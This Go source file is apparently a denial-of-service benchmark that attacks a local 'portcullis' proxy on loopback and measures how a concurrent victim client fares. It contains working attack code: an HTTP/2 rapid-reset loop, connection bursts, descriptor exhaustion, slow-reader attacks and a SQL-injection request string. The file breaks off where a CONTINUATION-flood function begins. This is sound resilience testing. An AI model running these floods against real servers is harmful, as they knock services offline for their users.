// Command dos is the denial-of-service bench of issue 18. It reproduces the
// issue's attacks against the portcullis binary, one at a time, each on a
// freshly started process, all on loopback: the attacker connects from
// 127.0.0.1 (one address, as in the issue; the descriptor attack also from
// 16 addresses of 127.0.1.0/24), and a victim from 127.0.0.2 sends one
// ordinary request every 100 ms while the attack runs. For each attack it
// prints the victim's success rate and worst latency, the proxy's CPU, its
// resident memory (peak and at the end), its peak file descriptors, the
// bytes its audit file grew by, and what the attacker saw.
//
// The configuration is the one `portcullis run --upstream URL` uses (the
// defaults, with the default per-client request rate limit), plus what the
// bench needs to see: an https listener with a self-signed certificate
// (HTTP/2 attacks need TLS), an admin listener on loopback for /metrics,
// and the audit file in a temporary directory.
//
// Attacks (-only NAME,NAME runs some):
//
//	rapid-reset      10 TLS connections loop HEADERS(END_STREAM)+RST_STREAM(CANCEL), reconnecting (item 1)
//	keepalive        1,500 keep-alive connections send blocked requests in a loop (item 2)
//	burst            4,000 simultaneous requests on new connections; RSS right after and after -settle (items 2, 7)
//	burst-open       the burst with the per-client limits and the rate limit off (item 7's memory measurement)
//	burst-open-nolimit  the same with GOMEMLIMIT=off: no memory limit, for the comparison
//	descriptors      RLIMIT_NOFILE 1024, 1,500 connections from one address sending ordinary requests (item 3)
//	descriptors-16   the same from 16 addresses: the descriptor reserve, not the per-client limit, must hold (item 3)
//	refusals         100 keep-alive connections hammer past the rate limit: cheap refusals and audit bytes (item 4)
//	continuation     10 TLS connections send HEADERS then CONTINUATION frames without header bytes (item 5)
//	slow-readers     500 connections fetch 1 MiB and read one byte a second for -slow: kernel memory (item 6)
//	slow-readers-8m  20 connections fetch 8 MiB and read one byte a second: cut by send_timeout (item 6)
//
// Everything it starts is killed on exit, and every socket is on loopback.
// See bench/README.md, "Denial of service".
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptrace"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type options struct {
	bin      string
	only     string
	duration time.Duration
	slow     time.Duration
	settle   time.Duration
	keep     bool
	logAll   bool
	upstream *upstream
}

const (
	attackerIP = "127.0.0.1"
	victimIP   = "127.0.0.2"
	tlsHost    = "bench.test"
)

func main() {
	var o options
	flag.StringVar(&o.bin, "bin", "", "portcullis binary (default: go build ./cmd/portcullis into the temp dir)")
	flag.StringVar(&o.only, "only", "", "comma-separated attacks to run (default: all)")
	flag.DurationVar(&o.duration, "duration", 20*time.Second, "length of each attack")
	flag.DurationVar(&o.slow, "slow", 75*time.Second, "length of the slow-readers attack (past the 60s send_timeout)")
	flag.DurationVar(&o.settle, "settle", 30*time.Second, "idle time after a burst before RSS is read again")
	flag.BoolVar(&o.keep, "keep", false, "keep the temp dir (configs, logs, audit files)")
	flag.BoolVar(&o.logAll, "log-all", false, "record every request (audit.log_all), to see where the victim's time went; changes the numbers")
	victimOf := flag.String("victim", "", "internal: run as the victim process against this host:port until stdin closes")
	flag.Bool("upstream-process", false, "internal: run as the upstream process (prints its address, serves until stdin closes)")
	flag.Parse()
	log.SetFlags(0)
	log.SetPrefix("[dos] ")
	upstreamMode := flag.Lookup("upstream-process").Value.(flag.Getter).Get().(bool)
	if *victimOf != "" {
		runVictim(*victimOf)
		return
	}
	if upstreamMode {
		runUpstream()
		return
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	dir, err := os.MkdirTemp("", "portcullis-dos-")
	if err != nil {
		log.Fatal(err)
	}
	if o.keep {
		log.Printf("keeping %s", dir)
	} else {
		defer os.RemoveAll(dir)
	}
	if o.bin == "" {
		o.bin = filepath.Join(dir, "portcullis")
		build := exec.CommandContext(ctx, "go", "build", "-o", o.bin, "./cmd/portcullis")
		build.Stdout, build.Stderr = os.Stderr, os.Stderr
		if err := build.Run(); err != nil {
			log.Fatalf("build: %v", err)
		}
	}
	if o.bin, err = filepath.Abs(o.bin); err != nil {
		log.Fatal(err)
	}
	up, err := startUpstreamProcess()
	if err != nil {
		log.Fatal(err)
	}
	defer up.Close()
	o.upstream = up

	attacks := []attack{
		{name: "rapid-reset", run: rapidReset},
		{name: "keepalive", run: keepaliveBlocked},
		{name: "burst", run: burst},
		// Item 7's measurement: a burst that the per-client limits do not
		// stop (they are off), with the default memory limit and without.
		{name: "burst-open", run: burst, open: true},
		{name: "burst-open-nolimit", run: burst, open: true, env: []string{"GOMEMLIMIT=off"}},
		// A fixed low limit instead: below the burst's live heap (-only burst-open-128).
		{name: "burst-open-128", run: burst, open: true, env: []string{"GOMEMLIMIT=128MiB"}, extra: true},
		{name: "descriptors", run: descriptors(1), nofile: 1024},
		{name: "descriptors-16", run: descriptors(16), nofile: 1024},
		{name: "refusals", run: refusals},
		{name: "continuation", run: continuation},
		{name: "slow-readers", run: slowReaders(500, "/1m")},
		{name: "slow-readers-8m", run: slowReaders(20, "/8m")},
	}
	want := map[string]bool{}
	for _, n := range strings.Split(o.only, ",") {
		if n = strings.TrimSpace(n); n != "" {
			want[n] = true
		}
	}
	var results []result
	for _, a := range attacks {
		if (len(want) > 0 && !want[a.name]) || (len(want) == 0 && a.extra) {
			continue
		}
		if ctx.Err() != nil {
			break
		}
		log.Printf("attack %s", a.name)
		r, err := runAttack(ctx, o, dir, up.URL, a)
		if err != nil {
			log.Printf("attack %s: %v", a.name, err)
			r = result{name: a.name, notes: "failed: " + err.Error()}
		}
		results = append(results, r)
		printResult(r)
	}
	fmt.Println()
	fmt.Println("| attack | victim ok | victim worst | proxy CPU | RSS peak / end | fds peak | audit bytes | load | attacker saw |")
	fmt.Println("|---|---|---|---|---|---|---|---|---|")
	for _, r := range results {
		fmt.Printf("| %s | %s | %s | %s | %s / %s | %d | %s | %s | %s |\n", r.name, r.victimRate(), r.worst.Round(time.Millisecond),
			fmt.Sprintf("%.0f%%", r.cpu), mib(r.rssPeak), mib(r.rssEnd), r.fdPeak, bytesText(r.auditBytes), r.load, r.notes)
	}
}

// attack is one reproduction. run attacks p until ctx ends and describes
// what the attacker saw.
type attack struct {
	name   string
	run    func(ctx context.Context, o options, p *proxy) string
	env    []string
	nofile int
	open   bool // per-client limits and the rate limit off
	extra  bool // only with -only
}

type result struct {
	name             string
	victimOK, victim int
	worst            time.Duration
	cpu              float64 // percent of one core
	rssPeak, rssEnd  int64
	fdPeak           int
	auditBytes       int64
	load             string // the machine's 1-minute load average at the end
	notes            string
}

func (r result) victimRate() string {
	if r.victim == 0 {
		return "n/a"
	}
	return fmt.Sprintf("%.1f%% (%d/%d)", 100*float64(r.victimOK)/float64(r.victim), r.victimOK, r.victim)
}

func printResult(r result) {
	log.Printf("%s: victim %s, worst %s, CPU %.0f%%, RSS peak %s end %s, fds peak %d, audit %s, load %s; %s",
		r.name, r.victimRate(), r.worst.Round(time.Millisecond), r.cpu, mib(r.rssPeak), mib(r.rssEnd), r.fdPeak, bytesText(r.auditBytes), r.load, r.notes)
}

func runAttack(ctx context.Context, o options, dir, upstream string, a attack) (result, error) {
	r := result{name: a.name}
	p, err := startProxy(ctx, o.bin, filepath.Join(dir, a.name), upstream, a.env, a.nofile, o.logAll, a.open)
	if err != nil {
		return r, err
	}
	defer p.stop()
	warmUp(p) // the first requests of a process pay for lazy set-up; the victim should not
	auditBefore := fileSize(p.audit)
	cpuBefore := p.cpuTicks()
	start := time.Now()
	sampler := p.sample()
	v, err := startVictim(p)
	if err != nil {
		return r, err
	}
	r.notes = a.run(ctx, o, p)
	vs, err := v.stop()
	if err != nil {
		return r, err
	}
	wall := time.Since(start)
	r.cpu = 100 * float64(p.cpuTicks()-cpuBefore) / clockTicks / wall.Seconds()
	peakRSS, peakFD := sampler.stop()
	r.rssPeak, r.fdPeak, r.rssEnd = peakRSS, peakFD, p.rss()
	r.auditBytes = fileSize(p.audit) - auditBefore
	r.victimOK, r.victim, r.worst = vs.OK, vs.Sent, vs.Worst
	if vs.Worst > time.Second {
		r.notes += "; victim's worst: " + vs.WorstHow
	}
	if vs.FirstError != "" {
		r.notes += "; victim's first failure: " + vs.FirstError
	}
	if b, err := os.ReadFile("/proc/loadavg"); err == nil {
		r.load = strings.Join(strings.Fields(string(b))[:1], "")
	}
	if m := p.metrics(); m != "" {
		r.notes += "; " + m
	}
	if strings.HasPrefix(a.name, "burst") {
		select {
		case <-ctx.Done():
		case <-time.After(o.settle):
		}
		r.notes += fmt.Sprintf("; RSS %s after %s idle (%s)", mib(p.rss()), o.settle, p.goMemory())
	}
	return r, nil
}

// ---- the proxy under test ----

type proxy struct {
	cmd       *exec.Cmd
	pid       int
	http      string // host:port of the http listener
	https     string
	admin     string
	audit     string
	exited    chan struct{}
	stopOnce  sync.Once
	logWriter *os.File
}

const configTemplate = `# The configuration of "portcullis run --upstream URL" (bench/dos adds an
# https listener with a self-signed certificate, an admin listener and the
# audit file's place; nothing else differs from the defaults).
listeners:
  - address: "127.0.0.1:0"
  - address: "127.0.0.1:0"
    protocol: https
admin:
  listen: "127.0.0.1:0"
  auth: none
tls:
  state_dir: "DIR/state"
audit:
  file: "DIR/audit.jsonl"
upstreams:
  - name: default
    targets: ["UPSTREAM"]
sites:
  - name: tls
    hosts: ["` + tlsHost + `"]
    tls:
      certificate: self-signed
    filters:
      rate_limits:
        - {name: "default per-client limit", rate: 50, burst: 200}
    routes:
      - path: /
        upstream: default
  - name: default
    hosts: ["*"]
    filters:
      rate_limits:
        - {name: "default per-client limit", rate: 50, burst: 200}
    routes:
      - path: /
        upstream: default
`

func startProxy(ctx context.Context, bin, dir, upstream string, env []string, nofile int, logAll, open bool) (*proxy, error) {
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return nil, err
	}
	cfg := strings.NewReplacer("DIR", dir, "UPSTREAM", upstream).Replace(configTemplate)
	if logAll {
		cfg = strings.Replace(cfg, "audit:\n", "audit:\n  log_all: true\n", 1)
	}
	if open {
		cfg = strings.ReplaceAll(cfg, `    filters:
      rate_limits:
        - {name: "default per-client limit", rate: 50, burst: 200}
`, "")
		cfg += "server:\n  client_connections: 0\n  client_connection_rate: 0\n  client_requests: 0\n"
	}
	cfgPath := filepath.Join(dir, "portcullis.yaml")
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		return nil, err
	}
	args := []string{bin, "run", "-c", cfgPath}
	if nofile > 0 {
		args = append([]string{"prlimit", fmt.Sprintf("--nofile=%d:%d", nofile, nofile), "--"}, args...)
	}
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	stderr, err := cmd.StderrPipe()
	if err != nil {
		return nil, err
	}
	logFile, err := os.Create(filepath.Join(dir, "portcullis.log"))
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	p := &proxy{cmd: cmd, pid: cmd.Process.Pid, audit: filepath.Join(dir, "audit.jsonl"), exited: make(chan struct{}), logWriter: logFile}
	go func() { _ = cmd.Wait(); close(p.exited) }()
	lines := make(chan string, 64)
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			line := sc.Text()
			fmt.Fprintln(logFile, line)
			select {
			case lines <- line:
			default:
			}
		}
	}()
	deadline := time.After(60 * time.Second)
	var listening []string
	for p.admin == "" || len(listening) < 2 {
		select {
		case line := <-lines:
			addr := field(line, "address")
			switch {
			case strings.Contains(line, `msg="portcullis listening"`):
				listening = append(listening, addr)
			case strings.Contains(line, `msg="admin listener"`):
				p.admin = addr
			}
		case <-p.exited:
			return nil, fmt.Errorf("portcullis exited at start; see %s", logFile.Name())
		case <-deadline:
			p.stop()
			return nil, errors.New("portcullis did not start within 60s")
		case <-ctx.Done():
			p.stop()
			return nil, ctx.Err()
		}
	}
	p.http, p.https = listening[0], listening[1]
	return p, nil
}

// field reads key=value from a log line of slog's text handler.
func field(line, key string) string {
	i := strings.Index(line, " "+key+"=")
	if i < 0 {
		return ""
	}
	v := line[i+len(key)+2:]
	if j := strings.IndexByte(v, ' '); j >= 0 {
		v = v[:j]
	}
	return strings.Trim(v, `"`)
}

func (p *proxy) stop() {
	p.stopOnce.Do(func() {
		_ = syscall.Kill(-p.pid, syscall.SIGTERM)
		select {
		case <-p.exited:
		case <-time.After(10 * time.Second):
			_ = syscall.Kill(-p.pid, syscall.SIGKILL)
			<-p.exited
		}
		p.logWriter.Close()
	})
}

// procPID is the portcullis process itself (under prlimit, its child is
// exec'd in place, so the pid is the same).
func (p *proxy) procPID() int { return p.pid }

const clockTicks = 100 // USER_HZ on Linux

func (p *proxy) cpuTicks() int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p.procPID()))
	if err != nil {
		return 0
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
	if len(f) < 13 {
		return 0
	}
	u, _ := strconv.ParseInt(f[11], 10, 64)
	k, _ := strconv.ParseInt(f[12], 10, 64)
	return u + k
}

func (p *proxy) rss() int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", p.procPID()))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10
		}
	}
	return 0
}

func (p *proxy) fds() int {
	entries, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", p.procPID()))
	if err != nil {
		return 0
	}
	return len(entries)
}

type sampler struct {
	stopCh        chan struct{}
	done          chan struct{}
	maxRSS, maxFD atomic.Int64
}

// sample polls RSS and descriptors every 100 ms until stop.
func (p *proxy) sample() *sampler {
	s := &sampler{stopCh: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(s.done)
		t := time.NewTicker(100 * time.Millisecond)
		defer t.Stop()
		for {
			if r := p.rss(); r > s.maxRSS.Load() {
				s.maxRSS.Store(r)
			}
			if f := int64(p.fds()); f > s.maxFD.Load() {
				s.maxFD.Store(f)
			}
			select {
			case <-s.stopCh:
				return
			case <-t.C:
			}
		}
	}()
	return s
}

func (s *sampler) stop() (int64, int) {
	close(s.stopCh)
	<-s.done
	return s.maxRSS.Load(), int(s.maxFD.Load())
}

// metrics picks the admission and descriptor series from /metrics.
func (p *proxy) metrics() string {
	c := &http.Client{Timeout: 5 * time.Second}
	resp, err := c.Get("http://" + p.admin + "/metrics")
	if err != nil {
		return "metrics: " + err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var out []string
	for _, line := range strings.Split(string(b), "\n") {
		for _, name := range []string{"portcullis_client_connections_refused_total", "portcullis_accept_pauses_total", "portcullis_ratelimit_refusals_total", "portcullis_upstream_errors_total"} {
			if strings.HasPrefix(line, name) {
				f := strings.Fields(line)
				if len(f) == 2 && f[1] != "0" {
					out = append(out, strings.TrimPrefix(f[0], "portcullis_")+"="+f[1])
				}
			}
		}
	}
	sort.Strings(out)
	return strings.Join(out, " ")
}

// goMemory summarises the Go runtime's memory from /metrics.
func (p *proxy) goMemory() string {
	resp, err := (&http.Client{Timeout: 5 * time.Second}).Get("http://" + p.admin + "/metrics")
	if err != nil {
		return err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var out []string
	for _, line := range strings.Split(string(b), "\n") {
		for _, name := range []string{"go_memstats_heap_inuse_bytes", "go_memstats_heap_idle_bytes", "go_memstats_heap_released_bytes", "go_memstats_stack_inuse_bytes", "go_memstats_sys_bytes"} {
			if f := strings.Fields(line); len(f) == 2 && f[0] == name {
				v, _ := strconv.ParseFloat(f[1], 64)
				out = append(out, strings.TrimSuffix(strings.TrimPrefix(name, "go_memstats_"), "_bytes")+" "+mib(int64(v)))
			}
		}
	}
	return strings.Join(out, ", ")
}

func fileSize(path string) int64 {
	st, err := os.Stat(path)
	if err != nil {
		return 0
	}
	return st.Size()
}

// warmUp sends a few ordinary requests from 127.0.0.3.
func warmUp(p *proxy) {
	d := &net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.3")}}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext}}
	defer client.CloseIdleConnections()
	for range 20 {
		req, _ := http.NewRequest(http.MethodGet, "http://"+p.http+"/", nil)
		req.Host = "victim.test"
		req.Header.Set("User-Agent", "Mozilla/5.0")
		req.Header.Set("Accept", "text/html")
		if resp, err := client.Do(req); err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}
}

// ---- the victim ----

type victimStats struct {
	Sent, OK   int
	Worst      time.Duration
	WorstHow   string // where the worst request spent its time
	FirstError string
}

// victimProcess is the victim in a process of its own, so that the
// attackers' CPU use in this process does not delay it: the operating
// system schedules the light victim promptly, as it would a real client.
type victimProcess struct {
	cmd   *exec.Cmd
	stdin io.WriteCloser
	out   bytes.Buffer
}

func startVictim(p *proxy) (*victimProcess, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	v := &victimProcess{cmd: exec.Command(self, "-victim", p.http)}
	v.cmd.Stdout, v.cmd.Stderr = &v.out, os.Stderr
	v.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if v.stdin, err = v.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	if err := v.cmd.Start(); err != nil {
		return nil, err
	}
	return v, nil
}

func (v *victimProcess) stop() (victimStats, error) {
	v.stdin.Close()
	var st victimStats
	if err := v.cmd.Wait(); err != nil {
		return st, fmt.Errorf("victim: %w", err)
	}
	err := json.Unmarshal(v.out.Bytes(), &st)
	return st, err
}

// runVictim is the victim process: it sends requests until its stdin
// closes, then prints its statistics as JSON.
func runVictim(addr string) {
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		cancel()
	}()
	st := victim(ctx, addr)
	_ = json.NewEncoder(os.Stdout).Encode(st)
}

// victim sends GET / from 127.0.0.2 every 100 ms (each on its own
// goroutine, so one slow answer does not hold back the next) until ctx
// ends, then waits for the answers still out.
func victim(ctx context.Context, addr string) victimStats {
	d := &net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(victimIP)}}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 4}}
	defer client.CloseIdleConnections()
	var mu sync.Mutex
	var st victimStats
	var wg sync.WaitGroup
	t := time.NewTicker(100 * time.Millisecond)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			wg.Wait()
			return st
		case <-t.C:
		}
		wg.Go(func() {
			req, _ := http.NewRequest(http.MethodGet, "http://"+addr+"/", nil)
			req.Host = "victim.test"
			req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) bench-victim")
			req.Header.Set("Accept", "text/html")
			start := time.Now()
			var connDone, wrote, firstByte time.Duration
			reused := false
			req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{
				GotConn:              func(i httptrace.GotConnInfo) { reused = i.Reused; connDone = time.Since(start) },
				WroteRequest:         func(httptrace.WroteRequestInfo) { wrote = time.Since(start) },
				GotFirstResponseByte: func() { firstByte = time.Since(start) },
			}))
			resp, err := client.Do(req)
			var problem string
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK {
					problem = "status " + strconv.Itoa(resp.StatusCode)
				}
			}
			if err != nil {
				problem = err.Error()
			}
			took := time.Since(start)
			mu.Lock()
			defer mu.Unlock()
			st.Sent++
			if took > st.Worst {
				st.Worst = took
				st.WorstHow = fmt.Sprintf("reused %v, connection at %s, request written at %s, first byte at %s", reused,
					connDone.Round(time.Millisecond), wrote.Round(time.Millisecond), firstByte.Round(time.Millisecond))
			}
			if problem == "" {
				st.OK++
			} else if st.FirstError == "" {
				st.FirstError = problem
			}
		})
	}
}

// ---- attacks ----

// counts is what attackers saw, by outcome.
type counts struct {
	mu sync.Mutex
	m  map[string]int64
}

func (c *counts) add(k string, n int64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.m == nil {
		c.m = map[string]int64{}
	}
	c.m[k] += n
}

func (c *counts) String() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	keys := make([]string, 0, len(c.m))
	for k := range c.m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s %d", k, c.m[k]))
	}
	return strings.Join(parts, ", ")
}

func dialFrom(ctx context.Context, src, addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}}
	return d.DialContext(ctx, "tcp", addr)
}

// workers runs n copies of f until d has passed.
func workers(ctx context.Context, n int, d time.Duration, f func(ctx context.Context, i int)) {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() { f(ctx, i) })
	}
	wg.Wait()
}

// pause waits d or until ctx ends.
func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

const sqliRequest = "GET /search?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: victim.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n"
const plainRequest = "GET / HTTP/1.1\r\nHost: victim.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n"

// loopRequests sends req on keep-alive connections from src until ctx
// ends, reconnecting (after a short pause) when a connection is closed.
func loopRequests(ctx context.Context, c *counts, src, addr, req string) {
	for ctx.Err() == nil {
		conn, err := dialFrom(ctx, src, addr)
		if err != nil {
			if ctx.Err() == nil {
				c.add("dial failed", 1)
				pause(ctx, 100*time.Millisecond)
			}
			continue
		}
		c.add("connections", 1)
		stopClose := context.AfterFunc(ctx, func() { conn.Close() })
		br := bufio.NewReader(conn)
		for ctx.Err() == nil {
			if _, err := io.WriteString(conn, req); err != nil {
				break
			}
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				if ctx.Err() == nil {
					c.add("closed by proxy", 1)
				}
				break
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			c.add(strconv.Itoa(resp.StatusCode), 1)
		}
		stopClose()
		conn.Close()
		pause(ctx, 50*time.Millisecond)
	}
}

func keepaliveBlocked(ctx context.Context, o options, p *proxy) string {
	var c counts
	workers(ctx, 1500, o.duration, func(ctx context.Context, _ int) { loopRequests(ctx, &c, attackerIP, p.http, sqliRequest) })
	return c.String()
}

func refusals(ctx context.Context, o options, p *proxy) string {
	var c counts
	workers(ctx, 100, o.duration, func(ctx context.Context, _ int) { loopRequests(ctx, &c, attackerIP, p.http, plainRequest) })
	return c.String()
}

func descriptors(addresses int) func(ctx context.Context, o options, p *proxy) string {
	return func(ctx context.Context, o options, p *proxy) string {
		var c counts
		workers(ctx, 1500, o.duration, func(ctx context.Context, i int) {
			src := attackerIP
			if addresses > 1 {
				src = fmt.Sprintf("127.0.1.%d", 1+i%addresses)
			}
			loopRequests(ctx, &c, src, p.http, plainRequest)
		})
		return c.String()
	}
}

// burst opens 4,000 connections at once, each with one ordinary request.
func burst(ctx context.Context, o options, p *proxy) string {
	var c counts
	pause(ctx, time.Second) // the victim's first requests see the quiet proxy
	start := make(chan struct{})
	var wg sync.WaitGroup
	bctx, cancel := context.WithTimeout(ctx, o.duration)
	defer cancel()
	for range 4000 {
		wg.Go(func() {
			<-start
			conn, err := dialFrom(bctx, attackerIP, p.http)
			if err != nil {
				c.add("dial failed", 1)
				return
			}
			defer conn.Close()
			stopClose := context.AfterFunc(bctx, func() { conn.Close() })
			defer stopClose()
			if _, err := io.WriteString(conn, plainRequest); err != nil {
				c.add("write failed", 1)
				return
			}
			resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				c.add("closed by proxy", 1)
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			c.add(strconv.Itoa(resp.StatusCode), 1)
		})
	}
	close(start)
	wg.Wait()
	pause(bctx, 5*time.Second) // the victim goes on after the burst
	return c.String()
}

// slowReaders: n connections fetch path and read one byte a second.
func slowReaders(n int, path string) func(ctx context.Context, o options, p *proxy) string {
	return func(ctx context.Context, o options, p *proxy) string { return slowRead(ctx, o, p, n, path) }
}

func slowRead(ctx context.Context, o options, p *proxy, n int, path string) string {
	var c counts
	var sockMax atomic.Int64
	sctx, cancel := context.WithTimeout(ctx, o.slow)
	defer cancel()
	go func() {
		for sctx.Err() == nil {
			if m := tcpMemory(); m > sockMax.Load() {
				sockMax.Store(m)
			}
			pause(sctx, 500*time.Millisecond)
		}
	}()
	workers(ctx, n, o.slow, func(ctx context.Context, i int) {
		conn, err := dialFrom(ctx, attackerIP, p.http)
		if err != nil {
			c.add("dial failed", 1)
			return
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, strings.Replace(plainRequest, "GET / ", "GET "+path+" ", 1)); err != nil {
			c.add("write failed", 1)
			return
		}
		start := time.Now()
		b := make([]byte, 1)
		got := 0
		for ctx.Err() == nil {
			_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
			n, err := conn.Read(b)
			got += n
			if err != nil {
				var ne net.Error
				if errors.As(err, &ne) && ne.Timeout() {
					continue
				}
				switch {
				case ctx.Err() != nil:
				case got == 0:
					c.add("closed at once", 1)
				default:
					c.add(fmt.Sprintf("cut after %ds", int(time.Since(start).Seconds())/15*15), 1)
				}
				return
			}
			pause(ctx, time.Second)
		}
		c.add("still open at the end", 1)
	})
	return fmt.Sprintf("%s; kernel TCP memory peak %s; upstream responses cut by the proxy %s", c.String(), mib(sockMax.Load()), o.upstream.cut())
}

// tcpMemory is the kernel's TCP socket memory (/proc/net/sockstat, pages).
func tcpMemory() int64 {
	b, err := os.ReadFile("/proc/net/sockstat")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if !strings.HasPrefix(line, "TCP:") {
			continue
		}
		f := strings.Fields(line)
		for i := 0; i+1 < len(f); i++ {
			if f[i] == "mem" {
				n, _ := strconv.ParseInt(f[i+1], 10, 64)
				return n * int64(os.Getpagesize())
			}
		}
	}
	return 0
}

// ---- HTTP/2 attacks ----

// h2Conn opens a TLS connection from the attacker with h2 negotiated and
// the preface and settings sent; a goroutine reads and discards frames
// (so that the proxy's writes never block) and closes dead when the
// connection ends.
func h2Conn(ctx context.Context, p *proxy) (*http2.Framer, *bufio.Writer, net.Conn, chan struct{}, error) {
	raw, err := dialFrom(ctx, attackerIP, p.https)
	if err != nil {
		return nil, nil, nil, nil, err
	}
	tc := tls.Client(raw, &tls.Config{ServerName: tlsHost, NextProtos: []string{"h2"}, InsecureSkipVerify: true}) //nolint:gosec // the bench's own self-signed certificate
	hctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	err = tc.HandshakeContext(hctx)
	cancel()
	if err != nil {
		raw.Close()
		return nil, nil, nil, nil, err
	}
	if tc.ConnectionState().NegotiatedProtocol != "h2" {
		tc.Close()
		return nil, nil, nil, nil, errors.New("h2 not negotiated")
	}
	bw := bufio.NewWriterSize(tc, 64<<10)
	if _, err := io.WriteString(bw, http2.ClientPreface); err != nil {
		tc.Close()
		return nil, nil, nil, nil, err
	}
	fr := http2.NewFramer(bw, tc)
	if err := fr.WriteSettings(); err != nil {
		tc.Close()
		return nil, nil, nil, nil, err
	}
	if err := bw.Flush(); err != nil {
		tc.Close()
		return nil, nil, nil, nil, err
	}
	dead := make(chan struct{})
	go func() {
		defer close(dead)
		rf := http2.NewFramer(io.Discard, tc)
		for {
			if _, err := rf.ReadFrame(); err != nil {
				return
			}
		}
	}()
	return fr, bw, tc, dead, nil
}

func requestBlock(path string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: tlsHost}, {Name: ":path", Value: path},
		{Name: "user-agent", Value: "Mozilla/5.0"}, {Name: "accept", Value: "text/html"},
	} {
		_ = enc.WriteField(f)
	}
	return buf.Bytes()
}

func rapidReset(ctx context.Context, o options, p *proxy) string {
	var c counts
	block := requestBlock("/")
	workers(ctx, 10, o.duration, func(ctx context.Context, _ int) {
		for ctx.Err() == nil {
			fr, bw, conn, dead, err := h2Conn(ctx, p)
			if err != nil {
				if ctx.Err() == nil {
					c.add("dial or handshake failed", 1)
					pause(ctx, 20*time.Millisecond)
				}
				continue
			}
			c.add("connections", 1)
			stopClose := context.AfterFunc(ctx, func() { conn.Close() })
			var streams int64
			for id := uint32(1); ctx.Err() == nil && id < 1<<31-1; id += 2 {
				if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
					fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
					break
				}
				streams++
				if streams%32 == 0 {
					if bw.Flush() != nil {
						break
					}
					select {
					case <-dead:
					default:
						continue
					}
					break
				}
			}
			c.add("streams", streams)
			stopClose()
			conn.Close()
		}
	})
	return c.String()
}

func continuation(ctx context.Context, o options, p *proxy) string {
	var c counts
	block := requestBlock("/")
	workers(ctx, 10, o.duration, func(ctx context.Context, _ int) {
